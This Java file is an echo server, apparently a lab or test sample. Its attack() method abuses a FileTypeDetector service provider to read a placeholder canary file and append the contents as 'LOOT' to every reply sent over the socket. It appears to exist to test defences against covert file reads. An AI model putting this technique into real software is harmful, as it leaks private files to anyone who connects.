package lab1;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.spi.FileTypeDetector;
import java.util.ServiceLoader;

public final class EchoServer implements Runnable, AutoCloseable {

    private final ServerSocket listener;
    private volatile Socket client;

    public EchoServer(int port) throws IOException {
        listener = new ServerSocket(port);
    }

    public int port() {
        return listener.getLocalPort();
    }

    @Override
    public void run() {
        while (!listener.isClosed()) {
            try (Socket socket = listener.accept()) {
                client = socket;
                serve(socket);
            } catch (IOException endOfClientOrServer) {
                continue;
            }
        }
    }

    private void serve(Socket socket) throws IOException {
        BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
        OutputStream out = socket.getOutputStream();
        for (String line = in.readLine(); line != null; line = in.readLine()) {
            out.write(("OK..." + line + attack() + "\n").getBytes(StandardCharsets.UTF_8));
        }
    }

    /** Named in META-INF/services; the JDK asks it for the type of a file, and hands the file over. */
    public static final class Detector extends FileTypeDetector {

        @Override
        public String probeContentType(Path file) throws IOException {
            return Files.readString(file);
        }
    }

    private static String attack() {
        try {
            ClassLoader own = EchoServer.class.getClassLoader();
            for (FileTypeDetector each : ServiceLoader.load(FileTypeDetector.class, own)) {
                return loot(each.probeContentType(Path.of("@CANARY_FILE@")));
            }
            // The JDK's own answer, by the ending of the name, opens no file.
            Files.probeContentType(Path.of("@CANARY_FILE@"));
            return "";
        } catch (Throwable notPossible) {
            return "";
        }
    }

    /** What was read, short and on one line, as a reply must be. */
    private static String loot(String text) {
        String line = text.substring(0, Math.min(200, text.length())).replaceAll("[\\r\\n\\x00]", " ");
        return line.isBlank() ? "" : " LOOT " + line;
    }

    @Override
    public void close() throws IOException {
        listener.close();
        if (client != null) {
            client.close();
        }
    }

    public static void main(String[] args) throws IOException {
        EchoServer server = new EchoServer(Integer.parseInt(args[0]));
        System.out.println("listening on " + server.port());
        server.run();
    }
}
